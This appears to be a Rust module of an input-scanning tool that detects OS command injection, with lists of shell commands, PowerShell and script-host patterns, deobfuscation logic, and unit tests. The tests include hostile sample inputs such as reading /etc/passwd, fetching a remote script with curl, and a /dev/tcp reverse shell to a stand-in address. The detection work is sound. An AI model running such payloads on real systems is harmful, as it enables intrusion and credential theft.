//! OS command injection: a shell separator or substitution followed by a command, on a copy of the
//! value with the usual shell obfuscations undone (`${IFS}`, quotes and backslashes inside words).

use std::borrow::Cow;

use super::{
    add_once, contains, is_word, skip_ws, Category, NeedleSet, Present, Rule, CRITICAL, ERROR,
};

pub const CHAINED: Rule = Rule::new("cmdi-chained-command", Category::Cmdi, CRITICAL, 1);
pub const SUBSTITUTION: Rule = Rule::new("cmdi-substitution", Category::Cmdi, CRITICAL, 1);
pub const SHELL_PATH: Rule = Rule::new("cmdi-shell-path", Category::Cmdi, CRITICAL, 1);
pub const BARE_COMMAND: Rule = Rule::new("cmdi-bare-command", Category::Cmdi, ERROR, 2);
/// PowerShell's download-and-run and encoded-command shapes: `IEX (…)`, `-EncodedCommand <b64>`,
/// `(New-Object Net.WebClient).DownloadString(…)`.
pub const POWERSHELL: Rule = Rule::new("cmdi-powershell", Category::Cmdi, CRITICAL, 1);
/// Classic ASP / VBScript / WSH execution: `CreateObject("WScript.Shell")`,
/// `Execute(Request(…))`.
pub const SCRIPT_HOST: Rule = Rule::new("cmdi-script-host", Category::Cmdi, CRITICAL, 1);

/// Commands an honest value hardly ever has right after a shell separator.
const DISTINCT: [&str; 61] = [
    "ver",
    "xxd",
    "base32",
    "hexdump",
    "cscript",
    "wscript",
    "mshta",
    "rundll32",
    "regsvr32",
    "schtasks",
    "iex",
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "id",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "dash",
    "powershell",
    "pwsh",
    "cmd",
    "cmd.exe",
    "nslookup",
    "certutil",
    "bitsadmin",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "chmod",
    "chown",
    "rm",
    "base64",
    "telnet",
    "tftp",
    "systeminfo",
    "tasklist",
    "netstat",
    "xterm",
    "mkfifo",
    "busybox",
    "hostname",
    "passwd",
    "useradd",
    "crontab",
    "nohup",
    "wmic",
    "reg",
    "dig",
    "socat",
    "env",
];

/// Commands that are also English words; they need an argument that looks like one.
const COMMON: [&str; 16] = [
    "cat", "ls", "echo", "sleep", "ping", "type", "dir", "net", "find", "kill", "head", "tail",
    "more", "sort", "awk", "sed",
];

/// Undoes `c'a't`, `w\ho\am\i`, `${IFS}`: the shell removes these before it runs anything.
fn deobfuscate(s: &str) -> Cow<'_, str> {
    // Nothing below applies to a value without these bytes (most values): it is used as it is,
    // uncopied.
    if !s.contains(['$', '{', '\'', '"', '^', '\\']) {
        return Cow::Borrowed(s);
    }
    // The replacements below need a `$` or a `{`; most values have neither, so skip the four
    // copies they would make.
    let s = if s.contains(['$', '{']) {
        s.replace("${ifs}", " ")
            .replace("$ifs$9", " ")
            .replace("$ifs", " ")
            .replace("{,}", " ")
    } else {
        s.to_string()
    };
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    for (i, &c) in b.iter().enumerate() {
        let prev = if i == 0 { None } else { b.get(i - 1).copied() };
        let next = b.get(i + 1).copied();
        if matches!(c, b'\'' | b'"') && prev.is_some_and(is_word) && next.is_some_and(is_word) {
            continue;
        }
        // `c^a^l^c` is `calc` to cmd.exe, whose escape character is `^`.
        if c == b'^' && prev.is_some_and(is_word) && next.is_some_and(is_word) {
            continue;
        }
        // `\i` is `i` to the shell; keep `C:\Windows` readable.
        if c == b'\\' && next.is_some_and(is_word) && prev != Some(b':') {
            continue;
        }
        if (c == b'\'' || c == b'"') && prev.is_some_and(is_word) && next == Some(c) {
            continue;
        }
        out.push(c);
    }
    // Only ASCII bytes were removed from valid UTF-8, so this is valid; were it not, the text
    // is kept (lossily) rather than scanned as nothing.
    Cow::Owned(
        String::from_utf8(out)
            .unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned()),
    )
}

/// Shell paths and launchers.
const SHELLS: NeedleSet = NeedleSet::new(&[
    "/bin/sh",
    "/bin/bash",
    "/bin/zsh",
    "/usr/bin/env",
    "cmd.exe",
    "cmd /c",
    "powershell -",
    "powershell.exe",
]);

fn command_at(b: &[u8], i: usize) -> Option<(&'static str, bool, usize)> {
    // Optional path prefix: /bin/cat, /usr/bin/id.
    let mut start = i;
    for prefix in [
        &b"/usr/local/bin/"[..],
        b"/usr/bin/",
        b"/bin/",
        b"/usr/sbin/",
        b"/sbin/",
    ] {
        if b.get(i..).is_some_and(|r| r.starts_with(prefix)) {
            start = i + prefix.len();
        }
    }
    let mut end = start;
    while b.get(end).is_some_and(|c| is_word(*c) || *c == b'.') {
        end += 1;
    }
    let word = std::str::from_utf8(b.get(start..end)?).ok()?;
    let word = word.strip_suffix(".exe").unwrap_or(word);
    // No command has an empty name: spare the list look-ups below for `/api/…`, `; ;` and such.
    if word.is_empty() {
        return None;
    }
    if let Some(w) = DISTINCT.iter().find(|w| **w == word) {
        return Some((w, true, end));
    }
    // cmd.exe control syntax: `IF EXIST …`, `IF 1==1 (…)`, `FOR /F …`, `FOR %i …`, `SET /A …`.
    // Only the forms prose does not have ("; if not, call me" and "; for 5 days" stay honest).
    if matches!(word, "if" | "for" | "set") {
        let k = skip_ws(b, end);
        let rest = b.get(k..).unwrap_or_default();
        let head = rest.get(..rest.len().min(24)).unwrap_or_default();
        let control = match word {
            "if" => {
                ["exist ", "defined ", "errorlevel ", "/i "]
                    .iter()
                    .any(|w| rest.starts_with(w.as_bytes()))
                    || head.windows(2).any(|w| w == b"==")
            }
            "for" => {
                rest.first() == Some(&b'%')
                    || (rest.first() == Some(&b'/')
                        && matches!(rest.get(1), Some(b'f' | b'l' | b'd' | b'r')))
            }
            _ => rest.starts_with(b"/a ") || rest.starts_with(b"/p "),
        };
        if control && k > end {
            return Some((word_static(word), true, end));
        }
    }
    // `net user`, `net localgroup …`: the Windows account and share subcommands.
    if word == "net" {
        let k = skip_ws(b, end);
        let rest = b.get(k..).unwrap_or_default();
        for sub in [
            &b"user"[..],
            b"localgroup",
            b"group",
            b"share",
            b"view",
            b"use",
            b"session",
        ] {
            if rest.starts_with(sub) && !rest.get(sub.len()).copied().is_some_and(is_word) {
                return Some(("net", false, k + sub.len()));
            }
        }
    }
    COMMON
        .iter()
        .find(|w| **w == word)
        .map(|w| (*w, false, end))
}

fn word_static(w: &str) -> &'static str {
    match w {
        "if" => "if",
        "for" => "for",
        _ => "set",
    }
}

const POWERSHELL_SHAPES: NeedleSet = NeedleSet::new(&[
    "iex(",
    "iex (",
    "invoke-expression",
    "downloadstring(",
    "downloadfile(",
    "net.webclient",
    "frombase64string(",
    "-nop -w hidden",
    "-windowstyle hidden",
    "-executionpolicy bypass",
    "-ep bypass",
]);

const SCRIPT_HOST_SHAPES: NeedleSet = NeedleSet::new(&[
    "wscript.shell",
    "scripting.filesystemobject",
    "shell.application",
    "execute(request",
    "eval(request",
    "executeglobal(",
    "execute request",
    "eval request",
]);

/// `-enc <base64>` / `-encodedcommand <base64>`: the argument must look like base64.
fn encoded_command(s: &str, p: &Present) -> bool {
    if !contains(s, p, "powershell") && !contains(s, p, "pwsh") {
        return false;
    }
    for flag in ["-encodedcommand ", "-enc ", "-ec ", "-e "] {
        for (at, _) in s.match_indices(flag) {
            let arg = s.get(at + flag.len()..).unwrap_or_default().trim_start();
            let run = arg
                .bytes()
                .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'='))
                .count();
            if run >= 12 {
                return true;
            }
        }
    }
    false
}

/// Whether the backtick at `i` opens markdown inline code in prose: preceded by spaces, and
/// before them a letter, `:` or `,` (the end of a word of the sentence).
fn inline_code(b: &[u8], i: usize) -> bool {
    let mut j = i;
    let mut spaces = 0;
    while j > 0 && b.get(j - 1) == Some(&b' ') && spaces < 4 {
        j -= 1;
        spaces += 1;
    }
    spaces > 0
        && j > 0
        && b.get(j - 1)
            .is_some_and(|c| c.is_ascii_alphabetic() || matches!(c, b':' | b','))
}

/// `c^a^l^c`: cmd.exe's escape character inside a word, twice or more. It changes nothing for
/// cmd and exists only to hide a command name; prose and maths (`x^2`) do not write it.
fn caret_obfuscated(s: &str) -> bool {
    let b = s.as_bytes();
    let mut in_word = 0;
    for (i, &c) in b.iter().enumerate() {
        if c == b'^' {
            let around = i > 0
                && b.get(i - 1).is_some_and(u8::is_ascii_alphabetic)
                && b.get(i + 1).is_some_and(u8::is_ascii_alphabetic);
            if around {
                in_word += 1;
                if in_word >= 2 {
                    return true;
                }
            }
        } else if !c.is_ascii_alphabetic() {
            in_word = 0;
        }
    }
    false
}

/// Whether what follows a command looks like a shell argument or the end of a command.
fn argument_follows(b: &[u8], end: usize, distinct: bool) -> bool {
    match b.get(end) {
        None => true,
        // `… | sort | uniq -c` in documentation: a common word between two separators is a
        // filter in someone's pipeline, not a command an attacker chose.
        Some(b';' | b'|' | b'&') => distinct,
        Some(b'`' | b')' | b'<' | b'>' | b'\n' | b'$') => true,
        Some(b' ' | b'\t') => {
            let k = skip_ws(b, end);
            match b.get(k) {
                None => distinct,
                Some(b'|' | b';' | b'&') => distinct,
                Some(
                    b'-' | b'/' | b'.' | b'$' | b'~' | b'\\' | b'%' | b'`' | b'<' | b'>' | b'*'
                    | b'{',
                ) => true,
                // `sleep 10`, `ping 10.0.0.1`
                Some(c) if c.is_ascii_digit() => true,
                Some(c) if distinct => c.is_ascii_alphanumeric() || matches!(c, b'"' | b'\''),
                _ => false,
            }
        }
        _ => false,
    }
}

pub fn detect(s: &str, out: &mut Vec<Rule>) {
    detect_with(s, &super::Present::of(s), out);
}

/// [`detect`] with the value's byte set computed once by the caller.
pub(crate) fn detect_with(s: &str, p: &super::Present, out: &mut Vec<Rule>) {
    // Each of these checks needs a character most values lack (every PowerShell shape has `(`,
    // `-` or `.`; every script-host shape `(`, `.` or ` request`): known from the byte set,
    // instead of four passes over every value.
    if p.any(b"(-.")
        && (POWERSHELL_SHAPES.any_in_present(s, p) || p.has(b'-') && encoded_command(s, p))
    {
        add_once(out, [POWERSHELL]);
    }
    if (p.any(b"(.") || p.has(b' ') && p.has(b'q')) && SCRIPT_HOST_SHAPES.any_in_present(s, p) {
        add_once(out, [SCRIPT_HOST]);
    }
    if p.has(b'^') && caret_obfuscated(s) {
        add_once(out, [CHAINED]);
    }
    if !p.any(b";|&`$\n/") {
        return;
    }
    let clean = deobfuscate(s);
    let b = clean.as_bytes();
    let mut found = Vec::new();
    let mut i = 0;
    while i < b.len() {
        let c = b.get(i).copied().unwrap_or(0);
        let sep_end = match c {
            b';' | b'\n' => Some(i + 1),
            b'|' | b'&' => Some(if b.get(i + 1) == Some(&c) {
                i + 2
            } else {
                i + 1
            }),
            // A markdown code fence (```) is not a substitution, nor is inline code in prose
            // ("Use `curl -X POST …`"): a backtick after a space that follows a word or `:`.
            b'`' if b.get(i + 1) != Some(&b'`')
                && (i == 0 || b.get(i - 1) != Some(&b'`'))
                && !inline_code(b, i) =>
            {
                Some(i + 1)
            }
            b'$' if b.get(i + 1) == Some(&b'(') => Some(i + 2),
            _ => None,
        };
        if let Some(after) = sep_end {
            let k = skip_ws(b, after);
            if let Some((name, distinct, end)) = command_at(b, k) {
                // After a single `|`, a text filter (`| sort -n | head`) only reshapes the
                // output of the command before it: documentation writes that, and it runs
                // nothing new.
                let filter = c == b'|'
                    && after == i + 1
                    && matches!(name, "sort" | "head" | "tail" | "more");
                if !filter && argument_follows(b, end, distinct) {
                    found.push(if c == b'`' || c == b'$' {
                        SUBSTITUTION
                    } else {
                        CHAINED
                    });
                }
            }
            i = after;
        } else {
            i += 1;
        }
    }
    // Without `$` or `{`, `deobfuscate` only removed bytes, so the value's byte set holds those
    // of `clean` and rules out the searches for what it lacks; otherwise it may have added spaces.
    let own;
    let pc = if p.any(b"${") {
        own = Present::of(&clean);
        &own
    } else {
        p
    };
    if contains(&clean, pc, "/dev/tcp/") || contains(&clean, pc, "/dev/udp/") {
        found.push(SHELL_PATH);
    }
    // `found` is deduplicated below, so one push stands for any number of shells.
    if SHELLS.any_in_present(&clean, pc) {
        found.push(SHELL_PATH);
    }
    // A whole value that is a command with arguments (pasted straight into a shell).
    if let Some((_, true, end)) = command_at(b, 0) {
        if end < b.len() && argument_follows(b, end, false) {
            found.push(BARE_COMMAND);
        }
    }
    add_once(out, found);
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(s: &str) -> Vec<&'static str> {
        crate::detect::rule_ids(detect, s)
    }

    #[test]
    fn attacks() {
        assert!(rules("; cat /etc/passwd").contains(&"cmdi-chained-command"));
        assert!(rules("127.0.0.1 && whoami").contains(&"cmdi-chained-command"));
        assert!(rules("x|id").contains(&"cmdi-chained-command"));
        assert!(rules("`id`").contains(&"cmdi-substitution"));
        assert!(rules("$(curl http://x.y/s.sh)").contains(&"cmdi-substitution"));
        assert!(rules(";c'a't${IFS}/etc/passwd").contains(&"cmdi-chained-command"));
        assert!(rules("a;w\\ho\\am\\i").contains(&"cmdi-chained-command"));
        assert!(rules("x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").contains(&"cmdi-shell-path"));
        assert!(rules("| /bin/ls -la").contains(&"cmdi-chained-command"));
        assert!(rules("127.0.0.1 | net user").contains(&"cmdi-chained-command"));
    }

    #[test]
    fn honest_text() {
        for s in [
            "Tom & Jerry",
            "I love my dog; cat lovers welcome",
            "price | quantity | total",
            "https://shop.example/?a=1&sort=asc&type=all",
            "R&D; find out more",
            "echo chamber",
            "Q&A session",
            "Profit & net user growth; net users up",
        ] {
            assert!(rules(s).is_empty(), "{s}: {:?}", rules(s));
        }
    }
}
